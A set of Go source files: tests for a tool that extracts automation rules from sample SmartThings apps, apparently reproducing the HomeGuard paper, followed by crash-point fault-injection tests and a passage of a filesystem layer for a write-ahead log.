