package symexec

import (
	"strings"
	"testing"

	"homeguard/internal/rule"
)

// comfortTV is Listing 1 of the paper (Rule 1 / Fig. 3).
const comfortTV = `
definition(
    name: "ComfortTV",
    namespace: "repro",
    author: "x",
    description: "Open the window when the TV turns on and it is hot inside.",
    category: "Convenience")

input "tv1", "capability.switch", title: "Which TV?"
input "tSensor", "capability.temperatureMeasurement"
input "threshold1", "number", title: "Higher than?"
input "window1", "capability.switch"

def installed() {
    subscribe(tv1, "switch", onHandler)
}
def updated() {
    unsubscribe()
    subscribe(tv1, "switch", onHandler)
}
def onHandler(evt) {
    def t = tSensor.currentValue("temperature")
    if ((evt.value == "on") && (t > threshold1)) turnOnWindow()
}
def turnOnWindow() {
    if (window1.currentSwitch == "off")
        window1.on()
}
`

func extract(t *testing.T, src, name string) *Result {
	t.Helper()
	res, err := Extract(src, name)
	if err != nil {
		t.Fatalf("Extract: %v", err)
	}
	return res
}

func TestTable2ComfortTV(t *testing.T) {
	res := extract(t, comfortTV, "")
	if res.App.Name != "ComfortTV" {
		t.Errorf("app name = %q", res.App.Name)
	}
	if len(res.Rules.Rules) != 1 {
		for _, r := range res.Rules.Rules {
			t.Logf("rule: %s", r)
		}
		t.Fatalf("rules = %d, want 1", len(res.Rules.Rules))
	}
	r := res.Rules.Rules[0]

	// Trigger (Table II column 1).
	if r.Trigger.Subject != "tv1" || r.Trigger.Attribute != "switch" {
		t.Errorf("trigger = %+v", r.Trigger)
	}
	if r.Trigger.Constraint == nil {
		t.Fatal("trigger constraint missing")
	}
	if got := r.Trigger.Constraint.String(); !strings.Contains(got, `tv1.switch == "on"`) {
		t.Errorf("trigger constraint = %s", got)
	}

	// Condition (Table II column 2): data constraint t = tSensor.temperature,
	// predicates t > threshold1 (resolved) and window1.switch == off.
	foundData := false
	for _, d := range r.Condition.Data {
		if d.Var == "t" {
			if v, ok := d.Term.(rule.Var); ok && v.Name == "tSensor.temperature" {
				foundData = true
			}
		}
	}
	if !foundData {
		t.Errorf("data constraints = %v", r.Condition.Data)
	}
	condStr := r.Condition.Formula().String()
	if !strings.Contains(condStr, "tSensor.temperature > threshold1") {
		t.Errorf("condition missing temperature predicate: %s", condStr)
	}
	if !strings.Contains(condStr, `window1.switch == "off"`) {
		t.Errorf("condition missing window state predicate: %s", condStr)
	}

	// Action (Table II column 3).
	a := r.Action
	if a.Subject != "window1" || a.Command != "on" || a.When != 0 || a.Period != 0 {
		t.Errorf("action = %+v", a)
	}
	if a.Capability != "switch" {
		t.Errorf("action capability = %q", a.Capability)
	}
}

func TestInputsCollected(t *testing.T) {
	res := extract(t, comfortTV, "")
	if len(res.App.Inputs) != 4 {
		t.Fatalf("inputs = %d, want 4", len(res.App.Inputs))
	}
	tv := res.App.Input("tv1")
	if tv == nil || tv.Capability != "switch" || !tv.IsDevice() {
		t.Errorf("tv1 input = %+v", tv)
	}
	th := res.App.Input("threshold1")
	if th == nil || th.IsDevice() || th.Type != "number" {
		t.Errorf("threshold1 input = %+v", th)
	}
	if len(res.App.DeviceInputs()) != 3 || len(res.App.ValueInputs()) != 1 {
		t.Errorf("device/value split = %d/%d",
			len(res.App.DeviceInputs()), len(res.App.ValueInputs()))
	}
}

// coldDefender implements Rule 2 of Fig. 3: close the window when the TV
// turns on while it is raining.
const coldDefender = `
definition(name: "ColdDefender", namespace: "repro", author: "x",
    description: "Close the window when the TV is on and it rains.", category: "Safety")
input "tv1", "capability.switch"
input "window1", "capability.switch"
input "weather", "enum", options: ["sunny", "rainy", "cloudy"]
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(tv1, "switch.on", onHandler)
}
def onHandler(evt) {
    if (weather == "rainy") {
        window1.off()
    }
}
`

func TestSubscribeWithValueConstraint(t *testing.T) {
	res := extract(t, coldDefender, "")
	if len(res.Rules.Rules) != 1 {
		t.Fatalf("rules = %d, want 1", len(res.Rules.Rules))
	}
	r := res.Rules.Rules[0]
	if r.Trigger.Constraint == nil ||
		!strings.Contains(r.Trigger.Constraint.String(), `tv1.switch == "on"`) {
		t.Errorf("trigger constraint = %v", r.Trigger.Constraint)
	}
	if r.Action.Command != "off" || r.Action.Subject != "window1" {
		t.Errorf("action = %+v", r.Action)
	}
	cond := rule.Conj(r.Condition.Predicates...).String()
	if !strings.Contains(cond, `weather == "rainy"`) {
		t.Errorf("condition = %s", cond)
	}
}

func TestInitializeInlining(t *testing.T) {
	// ColdDefender subscribes inside initialize(), reached from updated().
	res := extract(t, coldDefender, "")
	if len(res.Rules.Rules) == 0 {
		t.Fatal("subscription inside initialize() not discovered")
	}
}

const catchLiveShow = `
definition(name: "CatchLiveShow", namespace: "repro", author: "x",
    description: "Turn on the TV when a voice message arrives on Thursdays.", category: "Fun")
input "tv1", "capability.switch"
input "dayOfWeek", "enum", options: ["Monday","Thursday","Sunday"]
def installed() { subscribe(app, appTouch) }
def updated() { subscribe(app, appTouch) }
def appTouch(evt) {
    if (dayOfWeek == "Thursday") {
        tv1.on()
    }
}
`

func TestAppTouchTrigger(t *testing.T) {
	res := extract(t, catchLiveShow, "")
	if len(res.Rules.Rules) != 1 {
		t.Fatalf("rules = %d, want 1", len(res.Rules.Rules))
	}
	r := res.Rules.Rules[0]
	if r.Trigger.Subject != "app" || r.Trigger.Attribute != "touch" {
		t.Errorf("trigger = %+v", r.Trigger)
	}
	if r.Action.Subject != "tv1" || r.Action.Command != "on" {
		t.Errorf("action = %+v", r.Action)
	}
}

const nightCare = `
definition(name: "NightCare", namespace: "repro", author: "x",
    description: "Turn off the floor lamp 5 minutes after it is turned on while sleeping.", category: "Green Living")
input "lamp", "capability.switch"
def installed() { subscribe(lamp, "switch.on", lampOn) }
def updated() { unsubscribe(); subscribe(lamp, "switch.on", lampOn) }
def lampOn(evt) {
    if (location.mode == "sleep") {
        runIn(300, turnOffLamp)
    }
}
def turnOffLamp() {
    lamp.off()
}
`

func TestRunInDelayedAction(t *testing.T) {
	res := extract(t, nightCare, "")
	if len(res.Rules.Rules) != 1 {
		t.Fatalf("rules = %d, want 1 (delayed off)", len(res.Rules.Rules))
	}
	r := res.Rules.Rules[0]
	if r.Action.Command != "off" || r.Action.When != 300 {
		t.Errorf("action = %+v, want off with when=300", r.Action)
	}
	cond := rule.Conj(r.Condition.Predicates...).String()
	if !strings.Contains(cond, `location.mode == "sleep"`) {
		t.Errorf("condition = %s", cond)
	}
}

const burglarFinder = `
definition(name: "BurglarFinder", namespace: "repro", author: "x",
    description: "Sound the alarm when the floor lamp turns on at midnight with motion.", category: "Safety")
input "lamp", "capability.switch"
input "motion1", "capability.motionSensor"
input "alarm1", "capability.alarm"
def installed() { subscribe(lamp, "switch.on", lampOn) }
def updated() { unsubscribe(); subscribe(lamp, "switch.on", lampOn) }
def lampOn(evt) {
    if (motion1.currentMotion == "active" && location.mode == "Night") {
        alarm1.siren()
    }
}
`

func TestBurglarFinder(t *testing.T) {
	res := extract(t, burglarFinder, "")
	if len(res.Rules.Rules) != 1 {
		t.Fatalf("rules = %d", len(res.Rules.Rules))
	}
	r := res.Rules.Rules[0]
	if r.Action.Subject != "alarm1" || r.Action.Command != "siren" || r.Action.Capability != "alarm" {
		t.Errorf("action = %+v", r.Action)
	}
	cond := rule.Conj(r.Condition.Predicates...).String()
	for _, want := range []string{`motion1.motion == "active"`, `location.mode == "Night"`} {
		if !strings.Contains(cond, want) {
			t.Errorf("condition missing %q: %s", want, cond)
		}
	}
}

func TestSwitchStatementBranches(t *testing.T) {
	src := `
input "sensor1", "capability.contactSensor"
input "light1", "capability.switch"
input "siren1", "capability.alarm"
def installed() { subscribe(sensor1, "contact", handler) }
def handler(evt) {
    switch (evt.value) {
        case "open":
            light1.on()
            break
        case "closed":
            light1.off()
            break
        default:
            siren1.siren()
    }
}
`
	res := extract(t, src, "SwitchApp")
	if len(res.Rules.Rules) != 3 {
		for _, r := range res.Rules.Rules {
			t.Logf("rule: %s", r)
		}
		t.Fatalf("rules = %d, want 3", len(res.Rules.Rules))
	}
	// The case comparisons involve the event var only → trigger constraints.
	var onRule, offRule, defRule *rule.Rule
	for _, r := range res.Rules.Rules {
		switch {
		case r.Action.Command == "on":
			onRule = r
		case r.Action.Command == "off":
			offRule = r
		case r.Action.Command == "siren":
			defRule = r
		}
	}
	if onRule == nil || offRule == nil || defRule == nil {
		t.Fatal("missing expected rules")
	}
	if !strings.Contains(onRule.Trigger.Constraint.String(), `"open"`) {
		t.Errorf("on-rule trigger = %v", onRule.Trigger.Constraint)
	}
	if !strings.Contains(offRule.Trigger.Constraint.String(), `"closed"`) {
		t.Errorf("off-rule trigger = %v", offRule.Trigger.Constraint)
	}
	// Default arm carries the negations.
	if defRule.Trigger.Constraint == nil ||
		!strings.Contains(defRule.Trigger.Constraint.String(), "!=") {
		t.Errorf("default-rule trigger = %v", defRule.Trigger.Constraint)
	}
}

func TestEachClosureOverDevices(t *testing.T) {
	src := `
input "switches", "capability.switch", multiple: true
input "motion1", "capability.motionSensor"
def installed() { subscribe(motion1, "motion.active", handler) }
def handler(evt) {
    switches.each { s ->
        s.on()
    }
}
`
	res := extract(t, src, "EachApp")
	if len(res.Rules.Rules) != 1 {
		t.Fatalf("rules = %d, want 1", len(res.Rules.Rules))
	}
	r := res.Rules.Rules[0]
	if r.Action.Subject != "switches" || r.Action.Command != "on" {
		t.Errorf("action = %+v", r.Action)
	}
}

func TestLocationModeTriggerAndSink(t *testing.T) {
	src := `
input "locks", "capability.lock", multiple: true
def installed() { subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Away") {
        locks.lock()
        setLocationMode("Secure")
    }
}
`
	res := extract(t, src, "ModeApp")
	if len(res.Rules.Rules) != 2 {
		t.Fatalf("rules = %d, want 2 (lock + setLocationMode)", len(res.Rules.Rules))
	}
	var lockRule, modeRule *rule.Rule
	for _, r := range res.Rules.Rules {
		if r.Action.Command == "lock" {
			lockRule = r
		}
		if r.Action.Command == "setLocationMode" {
			modeRule = r
		}
	}
	if lockRule == nil || modeRule == nil {
		t.Fatal("missing rules")
	}
	if lockRule.Trigger.Subject != "location" || lockRule.Trigger.Attribute != "mode" {
		t.Errorf("trigger = %+v", lockRule.Trigger)
	}
	if !strings.Contains(lockRule.Trigger.Constraint.String(), `"Away"`) {
		t.Errorf("trigger constraint = %v", lockRule.Trigger.Constraint)
	}
	if len(modeRule.Action.Params) != 1 {
		t.Errorf("setLocationMode params = %v", modeRule.Action.Params)
	}
}

func TestScheduledTrigger(t *testing.T) {
	src := `
input "lights", "capability.switch", multiple: true
def installed() { schedule("0 0 22 * * ?", nightly) }
def updated() { unschedule(); schedule("0 0 22 * * ?", nightly) }
def nightly() {
    lights.off()
}
`
	res := extract(t, src, "Scheduler")
	if len(res.Rules.Rules) != 1 {
		t.Fatalf("rules = %d, want 1", len(res.Rules.Rules))
	}
	r := res.Rules.Rules[0]
	if r.Trigger.Subject != "time" || r.Trigger.Attribute != "schedule" {
		t.Errorf("trigger = %+v", r.Trigger)
	}
	if r.Action.Period != 86400 {
		t.Errorf("period = %d, want 86400 (daily)", r.Action.Period)
	}
}

func TestRunEveryTrigger(t *testing.T) {
	src := `
input "meter", "capability.powerMeter"
input "heavyLoads", "capability.switch", multiple: true
input "maxPower", "number"
def installed() { runEvery5Minutes(checkPower) }
def checkPower() {
    if (meter.currentPower > maxPower) {
        heavyLoads.off()
    }
}
`
	res := extract(t, src, "PowerCheck")
	if len(res.Rules.Rules) != 1 {
		t.Fatalf("rules = %d, want 1", len(res.Rules.Rules))
	}
	r := res.Rules.Rules[0]
	if r.Action.Period != 300 {
		t.Errorf("period = %d, want 300", r.Action.Period)
	}
	cond := r.Condition.Formula().String()
	if !strings.Contains(cond, "meter.power > maxPower") {
		t.Errorf("condition = %s", cond)
	}
}

func TestSendSmsSink(t *testing.T) {
	src := `
input "door1", "capability.contactSensor"
input "phone1", "phone"
def installed() { subscribe(door1, "contact.open", opened) }
def opened(evt) {
    sendSms(phone1, "door opened")
}
`
	res := extract(t, src, "Notifier")
	if len(res.Rules.Rules) != 1 {
		t.Fatalf("rules = %d, want 1", len(res.Rules.Rules))
	}
	r := res.Rules.Rules[0]
	if r.Action.Subject != "sendSms" || r.Action.Command != "sendSms" {
		t.Errorf("action = %+v", r.Action)
	}
}

func TestElseBranchRule(t *testing.T) {
	src := `
input "sensor1", "capability.temperatureMeasurement"
input "heater1", "capability.switch"
input "setpoint", "number"
def installed() { subscribe(sensor1, "temperature", check) }
def check(evt) {
    if (evt.doubleValue < setpoint) {
        heater1.on()
    } else {
        heater1.off()
    }
}
`
	res := extract(t, src, "ThermostatLike")
	if len(res.Rules.Rules) != 2 {
		t.Fatalf("rules = %d, want 2", len(res.Rules.Rules))
	}
	for _, r := range res.Rules.Rules {
		c := r.Trigger.Constraint
		if c == nil {
			t.Errorf("rule %s: trigger constraint missing (numeric event comparison)", r.ID)
			continue
		}
		s := c.String()
		if r.Action.Command == "on" && !strings.Contains(s, "<") {
			t.Errorf("on-rule constraint = %s", s)
		}
		if r.Action.Command == "off" && !strings.Contains(s, ">=") {
			t.Errorf("off-rule (negated) constraint = %s", s)
		}
	}
}

func TestTernaryForking(t *testing.T) {
	src := `
input "sensor1", "capability.illuminanceMeasurement"
input "dimmer1", "capability.switchLevel"
input "darkLevel", "number"
def installed() { subscribe(sensor1, "illuminance", adjust) }
def adjust(evt) {
    def level = evt.integerValue < darkLevel ? 100 : 20
    dimmer1.setLevel(level)
}
`
	res := extract(t, src, "Dimmer")
	if len(res.Rules.Rules) != 2 {
		t.Fatalf("rules = %d, want 2 (ternary forks the path)", len(res.Rules.Rules))
	}
	params := map[string]bool{}
	for _, r := range res.Rules.Rules {
		if len(r.Action.Params) == 1 {
			params[r.Action.Params[0].String()] = true
		}
	}
	if !params["100"] || !params["20"] {
		t.Errorf("setLevel params = %v, want 100 and 20", params)
	}
}

func TestStateTracking(t *testing.T) {
	src := `
input "button1", "capability.button"
input "light1", "capability.switch"
def installed() { subscribe(button1, "button.pushed", toggle) }
def toggle(evt) {
    if (state.lastOn == 1) {
        light1.off()
        state.lastOn = 0
    } else {
        light1.on()
        state.lastOn = 1
    }
}
`
	res := extract(t, src, "Toggle")
	if len(res.Rules.Rules) != 2 {
		t.Fatalf("rules = %d, want 2", len(res.Rules.Rules))
	}
	// The state.lastOn read is a symbolic input appearing in conditions.
	var found bool
	for _, r := range res.Rules.Rules {
		for _, p := range r.Condition.Predicates {
			if strings.Contains(p.String(), "state.lastOn") {
				found = true
			}
		}
	}
	if !found {
		t.Error("state.lastOn should appear as a symbolic condition input")
	}
}

func TestTimeOfDayWindow(t *testing.T) {
	src := `
input "motion1", "capability.motionSensor"
input "light1", "capability.switch"
input "fromTime", "time"
input "toTime", "time"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) {
    if (timeOfDayIsBetween(fromTime, toTime, new Date(), location.timeZone)) {
        light1.on()
    }
}
`
	res := extract(t, src, "NightLight")
	if len(res.Rules.Rules) != 1 {
		t.Fatalf("rules = %d, want 1", len(res.Rules.Rules))
	}
	cond := rule.Conj(res.Rules.Rules[0].Condition.Predicates...).String()
	if !strings.Contains(cond, "env.timeOfDay >= fromTime") ||
		!strings.Contains(cond, "env.timeOfDay <= toTime") {
		t.Errorf("condition = %s", cond)
	}
}

func TestWebServiceAppHasNoRules(t *testing.T) {
	src := `
definition(name: "WebThing", namespace: "x", author: "x",
    description: "Expose endpoints.", category: "SmartThings Labs")
input "switches", "capability.switch", multiple: true
mappings {
    path("/switches") { action: [GET: "listSwitches"] }
}
def installed() { }
def updated() { }
def listSwitches() {
    switches.on()
}
`
	res := extract(t, src, "")
	// No subscriptions → no automation rules (the request handler's logic
	// is outside TCA automation; Sec. VIII-B excludes such apps).
	if len(res.Rules.Rules) != 0 {
		t.Errorf("web-service app rules = %d, want 0", len(res.Rules.Rules))
	}
}

func TestArithmeticInConditions(t *testing.T) {
	src := `
input "meter", "capability.powerMeter"
input "loads", "capability.switch", multiple: true
input "limit", "number"
def installed() { subscribe(meter, "power", check) }
def check(evt) {
    def margin = limit - 50
    if (evt.doubleValue > margin) {
        loads.off()
    }
}
`
	res := extract(t, src, "Margin")
	if len(res.Rules.Rules) != 1 {
		t.Fatalf("rules = %d", len(res.Rules.Rules))
	}
	// margin = limit - 50 appears as a Sum term in the trigger constraint
	// (evt comparison) after resolution.
	r := res.Rules.Rules[0]
	full := r.TriggerConditionFormula().String()
	if !strings.Contains(full, "limit - 50") {
		t.Errorf("sum term missing: %s", full)
	}
}

func TestMultipleSubscriptionsMultipleRules(t *testing.T) {
	src := `
input "door1", "capability.contactSensor"
input "motion1", "capability.motionSensor"
input "light1", "capability.switch"
def installed() {
    subscribe(door1, "contact.open", onOpen)
    subscribe(motion1, "motion.active", onMotion)
}
def onOpen(evt) { light1.on() }
def onMotion(evt) { light1.on() }
`
	res := extract(t, src, "TwoTriggers")
	if len(res.Rules.Rules) != 2 {
		t.Fatalf("rules = %d, want 2", len(res.Rules.Rules))
	}
	subjects := map[string]bool{}
	for _, r := range res.Rules.Rules {
		subjects[r.Trigger.Subject] = true
	}
	if !subjects["door1"] || !subjects["motion1"] {
		t.Errorf("trigger subjects = %v", subjects)
	}
}

func TestPathCountReported(t *testing.T) {
	res := extract(t, comfortTV, "")
	if res.Paths < 2 {
		t.Errorf("paths = %d, want >= 2 (two nested branches)", res.Paths)
	}
}

func TestUnknownHandlerWarning(t *testing.T) {
	src := `
input "d", "capability.switch"
def installed() { subscribe(d, "switch", missingHandler) }
`
	res := extract(t, src, "Broken")
	if len(res.Warnings) == 0 {
		t.Error("expected a warning for the missing handler")
	}
}

func TestRuleIDsAssigned(t *testing.T) {
	res := extract(t, comfortTV, "")
	for _, r := range res.Rules.Rules {
		if r.ID == "" || r.App == "" {
			t.Errorf("rule missing id/app: %+v", r)
		}
	}
}

func TestElvisDefault(t *testing.T) {
	src := `
input "motion1", "capability.motionSensor"
input "light1", "capability.switch"
input "delayMin", "number", required: false
def installed() { subscribe(motion1, "motion.inactive", onStop) }
def onStop(evt) {
    def d = delayMin ?: 10
    runIn(60 * d, lightsOut)
}
def lightsOut() { light1.off() }
`
	res := extract(t, src, "Elvis")
	if len(res.Rules.Rules) != 1 {
		t.Fatalf("rules = %d, want 1", len(res.Rules.Rules))
	}
	// Delay is symbolic (depends on user input) → When = -1.
	if res.Rules.Rules[0].Action.When != -1 {
		t.Errorf("when = %d, want -1 (symbolic)", res.Rules.Rules[0].Action.When)
	}
}
