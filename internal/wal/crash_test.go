package wal

import (
	"errors"
	"fmt"
	"testing"
)

// TestCrashPointProperty is the fault-injection property test demanded
// by the durability contract: for a crash at EVERY byte budget — every
// record boundary and every mid-record offset — and for both tail
// behaviors (unsynced bytes all lost, unsynced bytes all landed), the
// reopened log replays exactly the set of operations whose Append
// returned nil. No acknowledged op may vanish; no unacknowledged op may
// be resurrected.
func TestCrashPointProperty(t *testing.T) {
	const nOps = 24
	payload := func(i int) []byte { return []byte(fmt.Sprintf("operation-%02d-payload", i)) }

	// Size the run once with an unlimited budget to learn the total
	// byte count, then iterate a crash at every byte offset.
	total := func() int64 {
		dir := t.TempDir()
		fs := NewCrashFS(1<<40, 0)
		l, err := Open(Options{Dir: dir, Fsync: FsyncAlways, FS: fs, SegmentBytes: 160})
		if err != nil {
			t.Fatalf("sizing Open: %v", err)
		}
		for i := 0; i < nOps; i++ {
			if _, err := l.Append(byte(1+i%4), payload(i)); err != nil {
				t.Fatalf("sizing Append: %v", err)
			}
		}
		l.Close()
		return fs.Written()
	}()
	if total == 0 {
		t.Fatal("sizing run wrote nothing")
	}

	for _, keepUnsynced := range []int64{0, 1 << 40} {
		for budget := int64(0); budget <= total; budget++ {
			acked := runUntilCrash(t, budget, keepUnsynced, nOps, payload)
			// acked is the number of Appends that returned nil before the
			// crash; recovery must yield exactly that prefix.
			dir := acked.dir
			l, err := Open(Options{Dir: dir, Fsync: FsyncOff})
			if err != nil {
				t.Fatalf("budget=%d keep=%d: recovery Open: %v", budget, keepUnsynced, err)
			}
			var got []uint64
			err = l.Replay(0, func(lsn uint64, kind byte, p []byte) error {
				i := len(got)
				if kind != byte(1+i%4) || string(p) != string(payload(i)) {
					return fmt.Errorf("record %d content mismatch: kind=%d payload=%q", i, kind, p)
				}
				got = append(got, lsn)
				return nil
			})
			if err != nil {
				t.Fatalf("budget=%d keep=%d: replay: %v", budget, keepUnsynced, err)
			}
			if len(got) < acked.n {
				t.Fatalf("budget=%d keep=%d: LOST committed op: acked %d, recovered %d",
					budget, keepUnsynced, acked.n, len(got))
			}
			if len(got) > acked.n {
				// With fsync=always an op is acked only after its sync
				// returned, so anything beyond the acked prefix would be a
				// resurrected un-acked op... except the one in-flight
				// record whose write fully landed but whose fsync never
				// returned: physically durable, never acknowledged.
				// Recovering it is legal (it is a whole, checksummed
				// record) — but never more than that single in-flight op.
				if len(got) > acked.n+1 {
					t.Fatalf("budget=%d keep=%d: resurrected %d un-acked ops",
						budget, keepUnsynced, len(got)-acked.n)
				}
			}
			// And the log must be writable again after recovery.
			if _, err := l.Append(OpFleetInstall, []byte("post-recovery")); err != nil {
				t.Fatalf("budget=%d keep=%d: append after recovery: %v", budget, keepUnsynced, err)
			}
			l.Close()
		}
	}
}

type crashRun struct {
	dir string
	n   int // Appends acknowledged (returned nil) before the crash
}

func runUntilCrash(t *testing.T, budget, keepUnsynced int64, nOps int, payload func(int) []byte) crashRun {
	t.Helper()
	dir := t.TempDir()
	fs := NewCrashFS(budget, keepUnsynced)
	l, err := Open(Options{Dir: dir, Fsync: FsyncAlways, FS: fs, SegmentBytes: 160})
	if err != nil {
		// Crashed while writing the very first segment header: disk holds
		// a torn (or absent) header and zero acked ops.
		if errors.Is(err, ErrCrashed) {
			return crashRun{dir: dir, n: 0}
		}
		t.Fatalf("budget=%d: Open: %v", budget, err)
	}
	acked := 0
	for i := 0; i < nOps; i++ {
		if _, err := l.Append(byte(1+i%4), payload(i)); err != nil {
			break
		}
		acked++
	}
	l.Close()
	return crashRun{dir: dir, n: acked}
}

// TestCrashDuringGC crashes while TruncateBefore is removing segments
// and asserts recovery still serves a contiguous suffix that includes
// every record at or above the GC watermark.
func TestCrashDuringGC(t *testing.T) {
	// Size a clean run first.
	build := func(fs FS, dir string) (*Log, error) {
		l, err := Open(Options{Dir: dir, Fsync: FsyncAlways, FS: fs, SegmentBytes: 160})
		if err != nil {
			return nil, err
		}
		for i := 0; i < 24; i++ {
			if _, err := l.Append(OpAuditBatch, []byte(fmt.Sprintf("gc-op-%02d", i))); err != nil {
				return nil, err
			}
		}
		return l, nil
	}
	dir := t.TempDir()
	szFS := NewCrashFS(1<<40, 0)
	l, err := build(szFS, dir)
	if err != nil {
		t.Fatal(err)
	}
	l.Close()
	appendBytes := szFS.Written()

	// Now re-run with budgets that land inside the GC phase. Remove is
	// not a Write, so the budget can't interrupt it — instead crash
	// between GC and the next append by giving exactly appendBytes.
	for extra := int64(0); extra < 40; extra += 7 {
		dir := t.TempDir()
		fs := NewCrashFS(appendBytes+extra, 0)
		l, err := build(fs, dir)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := l.TruncateBefore(13); err != nil && !errors.Is(err, ErrCrashed) {
			t.Fatalf("TruncateBefore: %v", err)
		}
		// Push more appends until the crash fires (or ops run out).
		for i := 0; i < 8; i++ {
			if _, err := l.Append(OpAuditBatch, []byte("post-gc")); err != nil {
				break
			}
		}
		l.Close()

		r, err := Open(Options{Dir: dir, Fsync: FsyncOff})
		if err != nil {
			t.Fatalf("extra=%d: recovery after GC crash: %v", extra, err)
		}
		var lsns []uint64
		if err := r.Replay(0, func(lsn uint64, _ byte, _ []byte) error {
			lsns = append(lsns, lsn)
			return nil
		}); err != nil {
			t.Fatalf("extra=%d: replay: %v", extra, err)
		}
		if len(lsns) == 0 {
			t.Fatalf("extra=%d: nothing recovered", extra)
		}
		// Contiguous, and the suffix covers >= the GC watermark.
		for i := 1; i < len(lsns); i++ {
			if lsns[i] != lsns[i-1]+1 {
				t.Fatalf("extra=%d: LSN gap %d -> %d", extra, lsns[i-1], lsns[i])
			}
		}
		if lsns[0] > 13 {
			t.Fatalf("extra=%d: records at/above watermark lost: first recovered %d", extra, lsns[0])
		}
		if lsns[len(lsns)-1] < 24 {
			t.Fatalf("extra=%d: acked pre-GC records lost: last recovered %d", extra, lsns[len(lsns)-1])
		}
		r.Close()
	}
}
