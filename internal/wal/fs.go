// The write-layer abstraction behind the log: every byte the WAL puts on
// disk goes through an FS, so fault-injection tests can crash the store
// at any byte boundary — mid-record, mid-header, between a write and its
// fsync — and then recover from exactly the bytes a real power cut would
// have left behind. Production code uses OSFS, a thin veneer over the os
// package; CrashFS wraps real files with a byte budget and a configurable
// unsynced-tail retention, modeling the two failure surfaces that matter:
// a torn final record (some sectors of an append landed) and lost
// unsynced writes (none did).

package wal

import (
	"errors"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
)

// ErrCrashed is returned by every CrashFS operation after the injected
// crash point: the simulated process is dead, no further I/O happens.
var ErrCrashed = errors.New("wal: simulated crash")

// File is the writable-segment handle the log needs.
type File interface {
	io.Writer
	Sync() error
	Close() error
}

// FS is the filesystem surface the log writes through. Reads during
// replay go through Open; everything else is the mutation surface.
type FS interface {
	MkdirAll(dir string) error
	// ReadDir returns the file names (not paths) in dir.
	ReadDir(dir string) ([]string, error)
	// Create opens a new segment for writing, truncating any existing
	// file at path.
	Create(path string) (File, error)
	// Append reopens an existing segment for appending.
	Append(path string) (File, error)
	Open(path string) (io.ReadCloser, error)
	Remove(path string) error
	// Truncate cuts the file at path to size bytes (torn-tail repair).
	Truncate(path string, size int64) error
	// SyncDir fsyncs the directory itself so entry creations/removals
	// (segment rotation, GC, checkpoint renames) survive power loss.
	SyncDir(dir string) error
}

// OSFS is the production FS: the os package, unwrapped.
type OSFS struct{}

func (OSFS) MkdirAll(dir string) error { return os.MkdirAll(dir, 0o755) }

func (OSFS) ReadDir(dir string) ([]string, error) {
	ents, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	names := make([]string, 0, len(ents))
	for _, e := range ents {
		names = append(names, e.Name())
	}
	return names, nil
}

func (OSFS) Create(path string) (File, error) {
	return os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o644)
}

func (OSFS) Append(path string) (File, error) {
	return os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0o644)
}

func (OSFS) Open(path string) (io.ReadCloser, error) { return os.Open(path) }

func (OSFS) Remove(path string) error { return os.Remove(path) }

func (OSFS) Truncate(path string, size int64) error { return os.Truncate(path, size) }

func (OSFS) SyncDir(dir string) error { return SyncDir(dir) }

// SyncDir fsyncs a directory so that renames and unlinks inside it are
// durable — an atomic-rename checkpoint is only crash-safe once the
// directory entry itself is on disk.
func SyncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return err
	}
	// Some platforms reject fsync on directories; treat that as best
	// effort, but surface real I/O errors.
	err = d.Sync()
	if cerr := d.Close(); err == nil {
		err = cerr
	}
	return err
}

// CrashFS is the fault-injection write layer: real files underneath, but
// the total number of bytes allowed to reach them is capped by a budget.
// The write that would exceed the budget triggers the crash: the file
// keeps everything synced so far plus KeepUnsynced bytes of the unsynced
// tail (modeling the sectors of an in-flight append that happened to
// land), and from then on every operation fails with ErrCrashed. Reads
// are not budgeted — recovery inspects the post-crash disk through a
// fresh OSFS anyway.
type CrashFS struct {
	mu sync.Mutex
	// Budget is the number of bytes writes may persist before the crash.
	budget int64
	// KeepUnsynced is how many bytes written after the last Sync survive
	// the crash (0 = a clean cut at the last fsync, large = the whole
	// torn tail lands).
	keepUnsynced int64
	crashed      bool
	written      int64
	open         []*crashFile
}

// NewCrashFS returns a CrashFS that crashes after budget persisted bytes,
// retaining keepUnsynced bytes of the unsynced tail of the file being
// written at crash time.
func NewCrashFS(budget, keepUnsynced int64) *CrashFS {
	return &CrashFS{budget: budget, keepUnsynced: keepUnsynced}
}

// Written returns the total bytes persisted so far (run once with a huge
// budget to size the interesting crash points).
func (c *CrashFS) Written() int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.written
}

// Crashed reports whether the injected crash has fired.
func (c *CrashFS) Crashed() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.crashed
}

// crash fires the injected failure: every open file is cut back to its
// synced size plus the retained unsynced tail. Callers hold c.mu.
func (c *CrashFS) crash() {
	c.crashed = true
	for _, f := range c.open {
		keep := f.size - f.synced
		if keep > c.keepUnsynced {
			keep = c.keepUnsynced
		}
		f.f.Truncate(f.synced + keep)
		f.f.Close()
	}
	c.open = nil
}

type crashFile struct {
	fs     *CrashFS
	f      *os.File
	size   int64 // bytes written
	synced int64 // bytes covered by the last Sync
}

func (c *CrashFS) track(f *os.File, size int64) *crashFile {
	cf := &crashFile{fs: c, f: f, size: size, synced: size}
	c.open = append(c.open, cf)
	return cf
}

func (c *CrashFS) MkdirAll(dir string) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.crashed {
		return ErrCrashed
	}
	return os.MkdirAll(dir, 0o755)
}

func (c *CrashFS) ReadDir(dir string) ([]string, error) {
	c.mu.Lock()
	crashed := c.crashed
	c.mu.Unlock()
	if crashed {
		return nil, ErrCrashed
	}
	return OSFS{}.ReadDir(dir)
}

func (c *CrashFS) Create(path string) (File, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.crashed {
		return nil, ErrCrashed
	}
	f, err := os.OpenFile(path, os.O_CREATE|os.O_RDWR|os.O_TRUNC, 0o644)
	if err != nil {
		return nil, err
	}
	return c.track(f, 0), nil
}

func (c *CrashFS) Append(path string) (File, error) {
	c.mu.Lock()
